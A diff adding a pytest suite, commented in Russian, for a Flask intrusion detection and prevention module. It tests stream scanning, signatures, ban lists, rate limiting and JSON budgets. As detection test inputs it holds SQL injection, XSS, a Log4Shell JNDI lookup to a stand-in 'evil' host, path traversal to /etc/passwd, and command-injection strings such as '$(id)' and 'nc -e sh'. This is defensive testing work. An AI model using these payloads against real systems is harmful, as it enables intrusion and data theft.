@@ -0,0 +1,1194 @@
+import io
+import logging
+import os
+import sys
+import time
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from flask import Flask
+
+from sec import intrusions
+from sec.intrusions import IPS, InspectionConfig
+
+try:
+    from re import _constants as sre_constants, _parser as sre_parse
+except ImportError:  # Python < 3.11
+    import sre_constants, sre_parse
+
+
+class _App:
+    """Минимальная обёртка с атрибутом .flask, как у AEngineApps App."""
+
+    def __init__(self):
+        self.flask = Flask("sec-test")
+        self.flask.logger.setLevel(logging.CRITICAL + 1)
+
+        @self.flask.route("/", methods=["GET", "POST"])
+        def index():
+            return "ok"
+
+
+def _post(config, body):
+    app = _App()
+    IPS(app, config)
+    return app.flask.test_client().post("/", data=body, content_type="text/plain").status_code
+
+
+# ─── Потоковая инспекция тела ─────────────────────────────────
+
+STREAM_TEXT = InspectionConfig(stream_body=True, stream_window=4096, stream_overlap=256, scan_bytes=False)
+
+
+def test_text_windows_do_not_cut_words():
+    body = ("flavor " * 5000).encode()
+    windows = list(intrusions._iter_text_windows(io.BytesIO(body).read, 4096, 256))
+    assert len(windows) > 1
+    for text in windows[:-1]:
+        assert text.endswith(" ")
+    for text in windows[1:]:
+        assert text.startswith(" ")
+    assert all(set(text.split()) == {"flavor"} for text in windows)
+
+
+def test_stream_benign_body_across_windows():
+    for body in ("flavor " * 40000, "brand " * 40000, "ordinal android " * 20000):
+        assert _post(STREAM_TEXT, body) == 200
+        assert _post(InspectionConfig(), body) == 200
+
+
+def test_stream_attack_on_window_boundary():
+    padding = "hello " * 682  # ~4092 байта: полезная нагрузка ложится на стык окон
+    assert _post(STREAM_TEXT, padding + "1 UNION SELECT password FROM users") == 400
+
+
+STREAM_BYTES = InspectionConfig(stream_body=True, stream_window=4096, stream_overlap=256, scan_bytes=True)
+
+BENIGN_WORDS = ["flavor", "brand", "ordinal", "android", "hello", "world", "x_y", "%20", "&amp;", "привет", "\n"]
+FUZZ_WORDS = ["flavor", "brand", "ordinal", "android", "hello", "world", "or", "and", "union", "select", "x_y", "%20",
+              "&amp;", "\\u0041", "<b>", "1=1", "--", "/*", ";", "'", "\n", "привет", "../", "etc/passwd"]
+
+
+def _fuzz_bodies(count=30, seed=7):
+    import random
+    rng = random.Random(seed)
+    for _ in range(count):
+        # Половина тел — только из безопасных слов, чтобы вердикты были разными
+        pool = FUZZ_WORDS if rng.random() < 0.5 else BENIGN_WORDS
+        words = [rng.choice(pool) for _ in range(rng.randint(500, 3000))]
+        sep = rng.choice([" ", "", ",", "  "])
+        yield sep.join(words)
+
+
+def test_byte_windows_match_text_windows():
+    for body in _fuzz_bodies(10):
+        data = body.encode("ascii", errors="ignore")
+        text = list(intrusions._iter_text_windows(io.BytesIO(data).read, 4096, 256))
+        raw = [bytes(w).decode() for w in intrusions._iter_byte_windows(io.BytesIO(data).read, 4096, 256)]
+        assert raw == text
+
+
+def test_stream_bytes_benign_body_across_windows():
+    for body in ("flavor " * 40000, "brand " * 40000, "ordinal android " * 20000):
+        assert _post(STREAM_BYTES, body) == 200
+
+
+def test_stream_bytes_and_text_verdicts_match():
+    verdicts = set()
+    for body in _fuzz_bodies():
+        verdict = _post(STREAM_BYTES, body)
+        assert verdict == _post(STREAM_TEXT, body)
+        verdicts.add(verdict)
+    assert verdicts == {200, 400}
+    padding = "hello " * 682
+    assert _post(STREAM_BYTES, padding + "1 UNION SELECT password FROM users") == 400
+
+
+def test_stream_verdicts_match_whole_body():
+    for body in _fuzz_bodies(15, seed=13):
+        assert _post(STREAM_TEXT, body) == _post(InspectionConfig(), body)
+
+
+# ─── RuleDetector в асинхронном режиме ────────────────────────
+
+def _rule_hits(async_mode):
+    app = _App()
+    ids = intrusions.IDS(app, async_mode=async_mode)
+    ids.add_detector(intrusions.RuleDetector)
+    hits = []
+    ids.on_trigger(lambda: hits.append(1))
+    client = app.flask.test_client()
+    client.get("/", headers={"User-Agent": "curl/8.0"})
+    client.get("/?debug=1")
+    client.post("/", data={"role": "admin"})
+    client.get("/?q=hello", headers={"User-Agent": "Mozilla/5.0"})
+    ids.wait(5)
+    return len(hits)
+
+
+def test_rules_fire_in_async_mode():
+    saved = list(intrusions.RuleDetector.rules)
+    intrusions.RuleDetector.rules[:] = []
+    try:
+        rules = intrusions.RuleDetector(None)
+        rules.add_rule(lambda r: "curl" in r.headers.get("User-Agent", ""), "curl")
+        rules.add_rule(lambda r: r.args.get("debug") == "1", "debug")
+        rules.add_rule(lambda r: r.method == "POST" and r.form.get("role") == "admin", "role")
+        assert _rule_hits(async_mode=False) == 3
+        assert _rule_hits(async_mode=True) == 3
+    finally:
+        intrusions.RuleDetector.rules[:] = saved
+
+
+# ─── Сервис счётчиков RateLimiter ─────────────────────────────
+
+def _free_port():
+    import socket
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+def test_rate_limit_server_requires_token_off_loopback():
+    import pytest
+    from sec.cluster import ClusterNode
+    with pytest.raises(ValueError):
+        intrusions.RateLimitServer("0.0.0.0", _free_port()).start()
+    with pytest.raises(ValueError):
+        ClusterNode("web_1", "master", "127.0.0.1", _free_port(), rate_limit_service=True)
+
+
+def test_network_backend_rejects_wrong_token():
+    port = _free_port()
+    server = intrusions.RateLimitServer("127.0.0.1", port, token="secret").start()
+    backend = intrusions.NetworkRateBackend("127.0.0.1", port, token="wrong", initial_lease=0)
+    try:
+        algorithm = intrusions.RateAlgorithm("log", 5, 60)
+        backend.hit("1.2.3.4", algorithm, time.time())
+        assert backend.fallback_hits == 1
+        assert server.stats()["keys"] == 0
+    finally:
+        backend.close()
+        server.stop()
+
+
+def test_network_backend_follows_master_failover():
+    port = _free_port()
+    algorithm = intrusions.RateAlgorithm("log", 3, 60)
+    server = intrusions.RateLimitServer("127.0.0.1", port, token="secret").start()
+    backend = intrusions.NetworkRateBackend("127.0.0.1", port, token="secret", initial_lease=0,
+                                            flush_interval=60, retry_interval=0.3)
+    try:
+        verdicts = [backend.hit("1.2.3.4", algorithm, time.time())[0] for _ in range(4)]
+        assert verdicts == [True, True, True, False]
+
+        # Master упал: лимит считается локально (fail-open), а не отказом всем
+        server.stop()
+        time.sleep(1.2)
+        assert backend.hit("9.9.9.9", algorithm, time.time())[0]
+        assert backend.fallback_hits == 1
+
+        # Новый Master на том же адресе: после retry_interval клиент переподключается
+        server = intrusions.RateLimitServer("127.0.0.1", port, token="secret").start()
+        time.sleep(0.4)
+        trips = backend.round_trips
+        assert backend.hit("5.6.7.8", algorithm, time.time())[0]
+        assert backend.round_trips == trips + 1
+        assert server.stats()["keys"] == 1
+    finally:
+        backend.close()
+        server.stop()
+
+
+# ─── Профили маршрутов ────────────────────────────────────────
+
+def test_unknown_profile_names_are_rejected():
+    import pytest
+    with pytest.raises(ValueError, match="signatures"):
+        IPS(_App(), profiles={"/api": "sigs"})
+    with pytest.raises(ValueError, match="'sigs'"):
+        IPS(_App(), default_profile="sigs")
+    app = _App()
+    IPS(app, profiles={"/": "signatures"}, default_profile="none")
+    assert app.flask.test_client().get("/?q=hello").status_code == 200
+
+
+def test_route_profiles_select_detectors():
+    app = _App()
+    ips = IPS(app, profiles={"/api": "signatures", "/api/admin": "full"})
+    ips.add_profile("xss", ["XSSDetector"])
+
+    @app.flask.route("/api/items")
+    def items():
+        return "items"
+
+    @app.flask.route("/api/admin/users")
+    def admin_users():
+        return "users"
+
+    @app.flask.route("/health")
+    @ips.profile("none")
+    def health():
+        return "ok"
+
+    @app.flask.route("/comments", methods=["POST"])
+    def comments():
+        return "saved"
+
+    ips.set_profile("comments", "xss")
+    client = app.flask.test_client()
+    xss, jndi = "<script>alert(1)</script>", "${jndi:ldap://evil/a}"
+
+    def verdicts(path, method="GET"):
+        send = client.get if method == "GET" else client.post
+        return [send(f"{path}?q={payload}").status_code for payload in (xss, jndi)]
+
+    assert verdicts("/") == [400, 400]
+    # Префикс маршрута: только сигнатуры
+    assert verdicts("/api/items") == [200, 400]
+    # Самый длинный префикс выигрывает
+    assert verdicts("/api/admin/users") == [400, 400]
+    # Декоратор и профиль по endpoint
+    assert verdicts("/health") == [200, 200]
+    assert verdicts("/comments", "POST") == [400, 200]
+
+
+# ─── Префильтр LFIDetector ────────────────────────────────────
+
+def test_lfi_prefilter_skips_plain_requests():
+    app = _App()
+    ids = intrusions.IDS(app, instrument=True)
+    ids.add_detector(intrusions.LFIDetector)
+    hits = []
+    ids.on_trigger(lambda: hits.append(1))
+    client = app.flask.test_client()
+
+    def calls():
+        stats = ids.stats.get("LFIDetector")
+        return stats.calls if stats is not None else 0
+
+    client.get("/?q=hello")
+    client.get("/api/items?page=2")
+    assert calls() == 0
+
+    client.get("/?f=/etc/passwd")
+    client.get("/?f=..%2f..%2fboot.ini")
+    client.get("/etc/passwd")
+    assert calls() == 3
+    assert len(hits) == 3
+
+
+# ─── Replay с альтернативной базой сигнатур ───────────────────
+
+def test_replay_restores_installed_signatures(tmp_path):
+    import json
+    IPS(_App())
+    detector = intrusions.SignatureDetector
+    detector._get_engine()
+    before = (detector.signatures, detector.severities, detector._engine)
+
+    db = tmp_path / "alt.json"
+    db.write_text(json.dumps({"signatures": [
+        {"name": "Log4Shell (CVE-2021-44228)", "severity": "low", "pattern": "jndi"},
+    ]}))
+    records = [{"method": "GET", "path": "/?q=${jndi:ldap://x/a}"}]
+    report = intrusions.replay_requests(records, signatures_path=str(db), workers=0)
+    assert report["blocked"] == 1
+
+    assert (detector.signatures, detector.severities, detector._engine) == before
+    assert detector.severities["Log4Shell (CVE-2021-44228)"] == "critical"
+    assert _post(InspectionConfig(), "${jndi:ldap://evil/a}") == 400
+
+
+# ─── Канонизация URL запроса ──────────────────────────────────
+
+def test_query_string_is_not_html_unescaped():
+    app = _App()
+    IPS(app)
+    client = app.flask.test_client()
+    # "&lt" и "&gt" здесь — начала имён параметров, а не "<" и ">"
+    assert client.get("/?a=1&lt=2&gt=3").status_code == 200
+    assert client.get("/?lang=en&ltscript&gt=1").status_code == 200
+    # Значения параметров по-прежнему декодируются
+    assert client.get("/?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B").status_code == 400
+
+
+def _detector_verdicts(detector_cls, values):
+    from urllib.parse import quote
+    app = _App()
+    ids = intrusions.IDS(app)
+    ids.add_detector(detector_cls)
+    hits = []
+    ids.on_trigger(lambda: hits.append(1))
+    client = app.flask.test_client()
+    verdicts = []
+    for value in values:
+        before = len(hits)
+        client.get("/?f=" + quote(value))
+        verdicts.append(len(hits) > before)
+    return verdicts
+
+
+def test_backslash_escapes_are_decoded_only_for_markup_views():
+    values = [r"C:\x41bc", r"..\x41bc\boot.ini", r"C:\dev\x64", r"\x3cscript\x3ealert(1)\x3c/script\x3e",
+              "%u002e%u002e/%u002e%u002e/etc/passwd", r";\x69d", r"\x2e\x2e/\x2e\x2e/etc/passwd", "hello"]
+    # "\\" в путях — разделитель Windows: C:\x41bc не превращается в C:Abc
+    assert _detector_verdicts(intrusions.LFIDetector, values) == [True, True, True, False, True, False, True, False]
+    # \xNN в значении не собирает имя команды (оболочка так не декодирует)
+    assert _detector_verdicts(intrusions.RCEDetector, values) == [False] * 8
+    assert _detector_verdicts(intrusions.XSSDetector, values) == [False, False, False, True, False, False, False, False]
+    # Канонизация для XSS/SQLi по-прежнему снимает escape-последовательности
+    assert intrusions._canonicalize(r"\x3cscript\x3e") == "<script>"
+    assert intrusions._canonicalize(r"C:\x41bc", backslash_escapes=False) == r"C:\x41bc"
+    assert intrusions._canonicalize("%u002e%252e/", backslash_escapes=False) == "../"
+
+
+# ─── Лимиты заголовков ────────────────────────────────────────
+
+def _get_with_header(config, name, value):
+    app = _App()
+    IPS(app, config)
+    return app.flask.test_client().get("/", headers={name: value}).status_code
+
+
+def test_over_budget_header_is_scanned_in_windows():
+    # Длинные Referer и X-Forwarded-For встречаются в обычном трафике
+    referer = "https://example.com/search?q=" + "flavor android " * 400
+    assert len(referer) > 4096
+    assert _get_with_header(InspectionConfig(), "Referer", referer) == 200
+    assert _get_with_header(InspectionConfig(), "X-Forwarded-For", "10.0.0.1, " * 60) == 200
+    # Хвост длинного значения проверяется окнами, а не отбрасывается
+    padded = "a" * 9000 + " ${jndi:ldap://evil/a}"
+    assert _get_with_header(InspectionConfig(), "X-Padding", padded) == 400
+    assert _get_with_header(InspectionConfig(), "X-Padding", "a" * 8000) == 200
+    # Заголовки без инспекции лимит не ограничивает
+    config = InspectionConfig(header_rules={"x-padding": []})
+    assert _get_with_header(config, "X-Padding", "a" * 9000) == 200
+
+
+def test_over_budget_header_block_is_opt_in():
+    import pytest
+    config = InspectionConfig(header_overflow="block")
+    assert _get_with_header(config, "X-Forwarded-For", "10.0.0.1, " * 60) == 400
+    assert _get_with_header(config, "X-Forwarded-For", "10.0.0.1") == 200
+    with pytest.raises(ValueError):
+        InspectionConfig(header_overflow="truncate")
+
+
+# ─── Движок сигнатур ──────────────────────────────────────────
+# Строки для фаззинга строятся по дереву каждой регулярки базы, поэтому
+# корпус задевает все сигнатуры: совпадения, почти-совпадения после мутаций
+# и входы, где обязательный литерал есть, а сама регулярка не совпадает.
+
+_CATEGORY_CHARS = {
+    sre_constants.CATEGORY_DIGIT: "0123456789",
+    sre_constants.CATEGORY_NOT_DIGIT: "aZ_ -",
+    sre_constants.CATEGORY_SPACE: " \t\n",
+    sre_constants.CATEGORY_NOT_SPACE: "aZ0_;",
+    sre_constants.CATEGORY_WORD: "aZ0_",
+    sre_constants.CATEGORY_NOT_WORD: " -;/",
+}
+_PRINTABLE = "abcxyzABC019 _-/.;:'\"<>()=%"
+
+
+def _regex_class_choices(items, rng):
+    if items and items[0][0] is sre_constants.NEGATE:
+        excluded = set()
+        for op, av in items[1:]:
+            if op is sre_constants.LITERAL:
+                excluded.add(chr(av))
+            elif op is sre_constants.RANGE:
+                excluded.update(chr(c) for c in range(av[0], av[1] + 1))
+            elif op is sre_constants.CATEGORY:
+                excluded.update(_CATEGORY_CHARS.get(av, ""))
+        return [c for c in _PRINTABLE if c not in excluded] or ["\x01"]
+    op, av = rng.choice(items)
+    if op is sre_constants.LITERAL:
+        return [chr(av)]
+    if op is sre_constants.RANGE:
+        return [chr(rng.randint(av[0], av[1]))]
+    if op is sre_constants.CATEGORY:
+        return list(_CATEGORY_CHARS.get(av, "a"))
+    return ["a"]
+
+
+def _regex_emit(tree, rng, groups, out):
+    for op, av in tree:
+        if op is sre_constants.LITERAL:
+            out.append(chr(av))
+        elif op is sre_constants.NOT_LITERAL:
+            out.append(rng.choice([c for c in _PRINTABLE if ord(c) != av]))
+        elif op is sre_constants.ANY:
+            out.append(rng.choice(_PRINTABLE))
+        elif op is sre_constants.IN:
+            out.append(rng.choice(_regex_class_choices(av, rng)))
+        elif op is sre_constants.BRANCH:
+            _regex_emit(rng.choice(av[1]), rng, groups, out)
+        elif op is sre_constants.SUBPATTERN:
+            group, sub = av[0], av[-1]
+            start = len(out)
+            _regex_emit(sub, rng, groups, out)
+            if group is not None:
+                groups[group] = "".join(out[start:])
+        elif op in (sre_constants.MAX_REPEAT, sre_constants.MIN_REPEAT,
+                    getattr(sre_constants, "POSSESSIVE_REPEAT", None)):
+            low, high, sub = av
+            high = min(high, low + 3)
+            for _ in range(rng.randint(low, high)):
+                _regex_emit(sub, rng, groups, out)
+        elif op is sre_constants.GROUPREF:
+            out.append(groups.get(av, ""))
+        elif op is getattr(sre_constants, "ATOMIC_GROUP", None):
+            _regex_emit(av, rng, groups, out)
+        # AT, ASSERT, ASSERT_NOT, GROUPREF_EXISTS — без вывода
+
+
+def _regex_sample(pattern, rng):
+    """Строка, построенная по дереву регулярки (обычно совпадающая с ней)."""
+    out = []
+    _regex_emit(sre_parse.parse(pattern.pattern, pattern.flags), rng, {}, out)
+    return "".join(out)
+
+
+def _mutate(text, rng):
+    roll = rng.random()
+    if roll < 0.2 and text:
+        i = rng.randrange(len(text))
+        return text[:i] + text[i + 1:]
+    if roll < 0.35:
+        return text.upper()
+    if roll < 0.5:
+        return text.swapcase()
+    if roll < 0.6 and text:
+        i = rng.randrange(len(text))
+        return text[:i] + rng.choice(" é\n%") + text[i:]
+    return text
+
+
+def _signature_corpus(signatures, per_pattern=20, seed=5):
+    import random
+    rng = random.Random(seed)
+    for pattern in signatures.values():
+        for _ in range(per_pattern):
+            text = _mutate(_regex_sample(pattern, rng), rng)
+            yield rng.choice(["", "q=", "PATH: /x?a="]) + text + rng.choice(["", " end", "ж"])
+
+
+def test_signature_set_matches_naive_search():
+    intrusions.SignatureDetector._load_db()
+    signatures = dict(intrusions.SignatureDetector.signatures)
+    engine = intrusions._SignatureSet(signatures)
+    hit = set()
+    for text in _signature_corpus(signatures):
+        expected = {name for name, pattern in signatures.items() if pattern.search(text)}
+        hit |= expected
+        data = text.encode()
+        assert set(engine.iter_matches(text)) == expected, text
+        assert set(engine.iter_matches(data)) == expected, text
+        assert set(engine.iter_matches(memoryview(data))) == expected, text
+        assert (engine.search(text) is None) == (not expected)
+        for name in expected:
+            # Совпавшая сигнатура содержит хотя бы один из своих обязательных литералов
+            literals = intrusions._required_literals(signatures[name].pattern)
+            assert literals is None or any(lit.lower() in text.lower() for lit in literals), (name, text)
+    # Корпус задевает каждую сигнатуру базы
+    assert hit == set(signatures)
+
+
+# ─── Бан-лист ─────────────────────────────────────────────────
+
+def test_ban_list_matches_naive_network_check():
+    import ipaddress
+    import random
+    rng = random.Random(11)
+    bans = intrusions.BanList()
+    networks = []
+    for _ in range(200):
+        if rng.random() < 0.6:
+            net = ipaddress.ip_network((rng.getrandbits(32), rng.randint(8, 32)), strict=False)
+        else:
+            net = ipaddress.ip_network((rng.getrandbits(128), rng.randint(16, 128)), strict=False)
+        networks.append(net)
+        bans.ban(str(net), ttl=600)
+    addresses = []
+    for net in networks:
+        addresses.append(net[0])
+        addresses.append(net[-1])
+        addresses.append(net.network_address + rng.randrange(net.num_addresses))
+    addresses += [ipaddress.ip_address(rng.getrandbits(32)) for _ in range(500)]
+    addresses += [ipaddress.ip_address(rng.getrandbits(128)) for _ in range(500)]
+    for addr in addresses:
+        expected = any(addr.version == net.version and addr in net for net in networks)
+        assert bans.is_banned(str(addr)) == expected, addr
+        if addr.version == 4:
+            assert bans.is_banned(f"::ffff:{addr}") == expected, addr
+    assert not bans.is_banned("bogus")
+    assert not bans.is_banned(None)
+
+
+def test_ban_list_rejects_before_detectors():
+    app = _App()
+    bans = intrusions.BanList()
+    IPS(app, ban_list=bans, ban_ttl=60)
+    client = app.flask.test_client()
+    attacker = {"REMOTE_ADDR": "192.0.2.1"}
+    assert client.get("/?q=<script>alert(1)</script>", environ_base=attacker).status_code == 400
+    assert client.get("/", environ_base=attacker).status_code == 403
+    assert client.get("/", environ_base={"REMOTE_ADDR": "192.0.2.2"}).status_code == 200
+    bans.unban("192.0.2.1")
+    assert client.get("/", environ_base=attacker).status_code == 200
+
+
+# ─── Индекс исполняемых файлов (RCEDetector) ──────────────────
+
+def _rce_hits(monkeypatch, tmp_path, queries):
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    for name in ("id", "users", "install"):
+        tool = bin_dir / name
+        tool.write_text("#!/bin/sh\n")
+        tool.chmod(0o755)
+    monkeypatch.setenv("PATH", str(bin_dir))
+    monkeypatch.setattr(intrusions.RCEDetector, "_executables", intrusions._ExecutableIndex())
+    app = _App()
+    ids = intrusions.IDS(app)
+    ids.add_detector(intrusions.RCEDetector)
+    hits = []
+    ids.on_trigger(lambda: hits.append(1))
+    client = app.flask.test_client()
+    verdicts = {}
+    for query in queries:
+        before = len(hits)
+        client.get(query)
+        verdicts[query] = len(hits) > before
+    return verdicts
+
+
+def test_rce_path_tokens_need_bin_directory(monkeypatch, tmp_path):
+    verdicts = _rce_hits(monkeypatch, tmp_path, [
+        "/?next=docs/install", "/?redirect=/account/id", "/?file=reports/users",
+        "/?q=|/usr/bin/id", f"/?q={tmp_path}/bin/id",
+    ])
+    assert verdicts == {
+        "/?next=docs/install": False, "/?redirect=/account/id": False, "/?file=reports/users": False,
+        "/?q=|/usr/bin/id": True, f"/?q={tmp_path}/bin/id": True,
+    }
+
+
+def test_rce_list_skips_dictionary_words(monkeypatch, tmp_path):
+    verdicts = _rce_hits(monkeypatch, tmp_path, [
+        "/?q=meet at noon", "/?q=where is the source of time", "/?q=write to host control",
+        "/?q=named pipe", "/?q=;id", "/?q=$(id)", "/?q=a %26%26 wget x", "/?q=nc -e sh",
+    ])
+    assert verdicts == {
+        "/?q=meet at noon": False, "/?q=where is the source of time": False,
+        "/?q=write to host control": False, "/?q=named pipe": False,
+        "/?q=;id": True, "/?q=$(id)": True, "/?q=a %26%26 wget x": True, "/?q=nc -e sh": True,
+    }
+
+
+# ─── Кеш вердиктов ────────────────────────────────────────────
+
+def test_verdict_cache_hits_and_ttl(monkeypatch):
+    now = [1000.0]
+    monkeypatch.setattr(intrusions.time, "monotonic", lambda: now[0])
+    cache = intrusions._VerdictCache(max_size=2, ttl=10.0)
+    cache.put(1, cache.ALLOW)
+    cache.put(2, "XSSDetector")
+    assert cache.get(1) == cache.ALLOW
+    assert cache.get(2) == "XSSDetector"
+    # LRU: 1 использован раньше 2, при переполнении вытесняется он
+    cache.put(3, cache.ALLOW)
+    assert cache.get(1) is None
+    now[0] += 11
+    assert cache.get(2) is None and cache.get(3) is None
+    stats = cache.stats()
+    assert (stats["hits"], stats["misses"], stats["size"]) == (2, 3, 0)
+
+
+def test_verdict_cache_serves_repeated_requests():
+    app = _App()
+    ips = IPS(app, verdict_cache=True)
+    client = app.flask.test_client()
+    for _ in range(3):
+        assert client.get("/?q=hello").status_code == 200
+        assert client.get("/?q=<script>alert(1)</script>").status_code == 400
+    stats = ips.cache_stats()
+    assert (stats["hits"], stats["misses"], stats["size"]) == (4, 2, 2)
+
+
+def _with_signature_db(tmp_path, signatures):
+    import json
+    db = tmp_path / f"extra{len(list(tmp_path.iterdir()))}.json"
+    db.write_text(json.dumps({"signatures": signatures}))
+    return str(db)
+
+
+def test_verdict_cache_invalidated_by_signature_reload(tmp_path):
+    app = _App()
+    ips = IPS(app, verdict_cache=True)
+    client = app.flask.test_client()
+    detector = intrusions.SignatureDetector
+    detector._get_engine()
+    before = (detector.signatures, detector.severities, detector._engine)
+    try:
+        assert client.get("/?q=frobnicate-42").status_code == 200
+        assert client.get("/?q=frobnicate-42").status_code == 200
+        detector.load_signatures(_with_signature_db(tmp_path, [
+            {"name": "Test Frobnicate", "severity": "high", "pattern": "frobnicate-\\d+"},
+        ]))
+        assert ips.cache_stats()["size"] == 0
+        assert client.get("/?q=frobnicate-42").status_code == 400
+        assert client.get("/?q=frobnicate-42").status_code == 400
+        # Обратно: без сигнатуры закешированная блокировка не переживает замену базы
+        detector._install(*before)
+        assert client.get("/?q=frobnicate-42").status_code == 200
+    finally:
+        detector._install(*before)
+
+
+def test_verdict_cache_invalidated_by_add_rule():
+    saved = list(intrusions.RuleDetector.rules)
+    intrusions.RuleDetector.rules[:] = []
+    try:
+        app = _App()
+        ips = IPS(app, verdict_cache=True)
+        client = app.flask.test_client()
+        assert client.get("/?debug=1").status_code == 200
+        assert client.get("/?debug=1").status_code == 200
+        assert ips.cache_stats()["size"] == 1
+        intrusions.RuleDetector(None).add_rule(lambda r: r.args.get("debug") == "1", "debug")
+        assert ips.cache_stats()["size"] == 0
+        assert client.get("/?debug=1").status_code == 400
+        assert client.get("/?debug=2").status_code == 200
+    finally:
+        intrusions.RuleDetector.rules[:] = saved
+
+
+# ─── Режим оценки аномалий ────────────────────────────────────
+
+def _points_detector(points, calls):
+    class Points(intrusions.BaseDetector):
+        score = points
+
+        def run(self):
+            calls.append(points)
+            self.trigger_response()
+    Points.__name__ = f"Points{points}"
+    return Points
+
+
+def _scoring_ids(threshold, scores):
+    app = _App()
+    ids = intrusions.IDS(app, scoring=True, threshold=threshold)
+    calls = []
+    for points in scores:
+        ids.add_detector(_points_detector(points, calls))
+    reported = []
+    ids.on_trigger(lambda: reported.append(ids.context().score))
+    return app.flask.test_client(), calls, reported
+
+
+def test_scoring_accumulates_across_detectors():
+    client, calls, reported = _scoring_ids(10, [2, 3, 4])
+    client.get("/")
+    # Каждый детектор ниже порога, сумма тоже — обработчики не вызываются
+    assert calls == [2, 3, 4] and reported == []
+    client, calls, reported = _scoring_ids(9, [2, 3, 4])
+    client.get("/")
+    assert calls == [2, 3, 4] and reported == [9]
+
+
+def test_scoring_blocks_exactly_at_threshold():
+    for threshold, status in ((4, 400), (5, 400), (6, 200)):
+        app = _App()
+        ips = IPS(app, scoring=True, threshold=threshold)
+        calls = []
+        ips.add_detector(_points_detector(2, calls))
+        ips.add_detector(_points_detector(3, calls))
+        assert app.flask.test_client().get("/").status_code == status, threshold
+
+
+def test_scoring_skips_detectors_after_threshold():
+    client, calls, reported = _scoring_ids(5, [2, 3, 4, 1])
+    client.get("/")
+    assert calls == [2, 3] and reported == [5]
+
+
+# ─── Бюджеты JSON ─────────────────────────────────────────────
+
+def _post_json(config, text):
+    app = _App()
+    IPS(app, config)
+    return app.flask.test_client().post("/", data=text, content_type="application/json").status_code
+
+
+def _nested(depth, leaf):
+    node = leaf
+    for _ in range(depth):
+        node = {"a": node}
+    return node
+
+
+def test_json_flattener_budgets_without_recursion():
+    flattener = intrusions._JsonFlattener(max_depth=64)
+    # Глубже лимита рекурсии Python: обход итеративный
+    assert list(flattener.iter_strings(_nested(100_000, "x"))) == []
+    assert flattener.exceeded == "depth"
+    flattener = intrusions._JsonFlattener(max_items=100)
+    assert len(list(flattener.iter_strings(["v"] * 1000))) == 99
+    assert flattener.exceeded == "items"
+    flattener = intrusions._JsonFlattener(max_bytes=10)
+    assert list(flattener.iter_strings(["12345", "67890", "x"])) == ["12345", "67890"]
+    assert flattener.exceeded == "bytes"
+    flattener = intrusions._JsonFlattener()
+    assert list(flattener.iter_strings(_nested(63, "x"))) == ["x"]
+    assert flattener.exceeded is None
+
+
+def test_json_over_budget_is_blocked():
+    import json
+    config = InspectionConfig(json_max_items=1000, json_max_bytes=4096)
+    assert _post_json(config, json.dumps(_nested(200, "hello"))) == 400
+    # Глубже, чем разбирает json-парсер (RecursionError внутри get_json)
+    assert _post_json(config, '{"a":' * 100_000 + "1" + "}" * 100_000) == 400
+    assert _post_json(config, json.dumps(["hello"] * 2000)) == 400
+    assert _post_json(config, json.dumps({"q": "hello " * 1000})) == 400
+    assert _post_json(config, json.dumps({"items": ["hello"] * 100, "q": "hello"})) == 200
+    # "inspect": проверяются значения, собранные до превышения
+    inspect = InspectionConfig(json_max_items=1000, overflow_verdict="inspect")
+    assert _post_json(inspect, json.dumps(["hello"] * 2000)) == 200
+
+
+def test_json_deeply_nested_attack_is_detected():
+    import json
+    attack = "<script>alert(1)</script>"
+    assert _post_json(InspectionConfig(), json.dumps(_nested(60, {"q": attack}))) == 400
+    assert _post_json(InspectionConfig(), json.dumps(_nested(60, {"q": "hello"}))) == 200
+    inspect = InspectionConfig(overflow_verdict="inspect")
+    assert _post_json(inspect, json.dumps([attack] + [_nested(200, "x")])) == 400
+
+
+# ─── Пул процессов для больших сканов ─────────────────────────
+
+def _pool_verdicts(ips, client, bodies):
+    return [client.post("/", data=body, content_type="text/plain").status_code for body in bodies]
+
+
+def test_scan_pool_offload_matches_inline_scan():
+    bodies = list(_fuzz_bodies(12)) + [
+        "hello " * 2000 + "${jndi:ldap://evil/a}",
+        "hello " * 2000 + "1 UNION SELECT password FROM users",
+        "flavor android " * 1000,
+    ]
+    app = _App()
+    inline = _pool_verdicts(IPS(app), app.flask.test_client(), bodies)
+    app = _App()
+    ips = IPS(app, scan_processes=1, offload_threshold=1000)
+    try:
+        offloaded = _pool_verdicts(ips, app.flask.test_client(), bodies)
+        assert ips.scan_pool.offloaded > 0 and ips.scan_pool.failures == 0
+    finally:
+        ips.scan_pool.shutdown()
+    assert offloaded == inline and set(inline) == {200, 400}
+
+
+def test_scan_pool_rebuilds_only_for_signatures(tmp_path):
+    saved = list(intrusions.RuleDetector.rules)
+    detector = intrusions.SignatureDetector
+    app = _App()
+    ips = IPS(app, scan_processes=1, offload_threshold=1000)
+    pool = ips.scan_pool
+    detector._get_engine()
+    before = (detector.signatures, detector.severities, detector._engine)
+    client = app.flask.test_client()
+    body = "hello " * 500 + "frobnicate-42"
+    try:
+        assert client.post("/", data=body, content_type="text/plain").status_code == 200
+        executor, rebuilds = pool._executor, pool.rebuilds
+        intrusions.RuleDetector(None).add_rule(lambda r: False, "never")
+        assert client.post("/", data=body, content_type="text/plain").status_code == 200
+        assert (pool._executor, pool.rebuilds) == (executor, rebuilds)
+
+        detector.load_signatures(_with_signature_db(tmp_path, [
+            {"name": "Test Frobnicate", "severity": "high", "pattern": "frobnicate-\\d+"},
+        ]))
+        # Пока пул пересоздаётся в фоне, скан идёт в потоке запроса новым набором
+        assert client.post("/", data=body, content_type="text/plain").status_code == 400
+        deadline = time.monotonic() + 30
+        while pool.rebuilds == rebuilds and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert pool.rebuilds > rebuilds and pool._executor is not executor
+        offloaded = pool.offloaded
+        assert client.post("/", data=body, content_type="text/plain").status_code == 400
+        assert pool.offloaded > offloaded
+    finally:
+        pool.shutdown()
+        detector._install(*before)
+        intrusions.RuleDetector.rules[:] = saved
+
+
+# ─── Алгоритмы RateLimiter ────────────────────────────────────
+
+def test_rate_algorithms_burst_limit_and_recovery():
+    for name in ("sliding_window", "token_bucket", "gcra", "log"):
+        rate = intrusions.RateAlgorithm(name, 5, 10.0)
+        backend = intrusions.LocalRateBackend()
+        start = 1000.0
+        assert [backend.hit("k", rate, start)[0] for _ in range(5)] == [True] * 5, name
+        assert not backend.hit("k", rate, start + 1)[0], name
